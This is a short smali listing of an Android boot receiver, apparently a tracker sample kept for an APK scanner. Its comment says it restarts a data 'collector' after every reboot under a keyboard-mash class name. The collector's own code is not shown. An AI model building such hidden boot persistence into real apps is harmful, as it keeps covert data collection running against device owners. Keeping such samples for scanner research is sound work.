.class public Lorg/apkscan/sample/tracker/bvfrtzk;
.super Landroid/content/BroadcastReceiver;
.source "bvfrtzk.java"

# Boot receiver with a keyboard-mash name: restarts the collector after every reboot.
.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 4
    new-instance v0, Lorg/apkscan/sample/tracker/Collector;
    invoke-direct {v0}, Lorg/apkscan/sample/tracker/Collector;-><init>()V
    invoke-virtual {v0, p1}, Lorg/apkscan/sample/tracker/Collector;->collect(Landroid/content/Context;)V
    return-void
.end method
